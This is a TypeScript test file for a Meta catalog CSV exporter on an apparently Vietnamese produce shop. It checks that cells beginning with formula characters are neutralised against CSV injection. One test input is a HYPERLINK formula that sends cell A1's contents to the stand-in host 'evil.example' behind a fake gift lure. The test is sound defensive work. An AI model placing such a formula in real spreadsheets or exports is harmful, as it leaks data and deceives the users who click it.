import { parse } from 'csv-parse/sync';
import type { FeedItem } from './feed-format.js';
import { metaCatalogFeed } from './meta-catalog.feed.js';

const item = (overrides: Partial<FeedItem>): FeedItem => ({
  id: '5b8f0c1e-2f0a-4c59-9a51-0d2a1f3b4c5d',
  groupId: '9d1c3a2b-7e6f-4a5b-8c9d-0e1f2a3b4c5d',
  title: 'Nước mắm Gò Bồi',
  description: 'Cá cơm và muối, ủ 12 tháng.',
  link: 'https://nongsan.example.vn/products/nuoc-mam-go-boi',
  imageLink: 'https://nongsan.example.vn/images/public/products/x/320.webp',
  inStock: true,
  price: 185000,
  brand: 'HTX Gò Bồi',
  ...overrides,
});

const rowsOf = (items: FeedItem[]) =>
  parse(metaCatalogFeed.head({ title: '', link: '' }) + metaCatalogFeed.items(items), { columns: true }) as Array<Record<string, string>>;

describe('Meta catalog CSV', () => {
  it('neutralises a cell a spreadsheet would run as a formula (OWASP: a leading quote)', () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm để nhận quà")';
    const [row] = rowsOf([item({ title: hyperlink, description: '+84 905 123 456', brand: '@HTX' })]);
    expect(row).toMatchObject({ title: `'${hyperlink}`, description: "'+84 905 123 456", brand: "'@HTX" });
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(rowsOf([item({ title: `${start}1+1` })])[0].title).toBe(`'${start}1+1`);
  });

  it('leaves ordinary text, and a formula character later in the cell, as it is', () => {
    const [row] = rowsOf([item({ title: 'Rượu Bàu Đá - 1+1 = 2 @ 29%' })]);
    expect(row).toMatchObject({ title: 'Rượu Bàu Đá - 1+1 = 2 @ 29%', price: '185000 VND', availability: 'in stock', brand: 'HTX Gò Bồi' });
  });
});
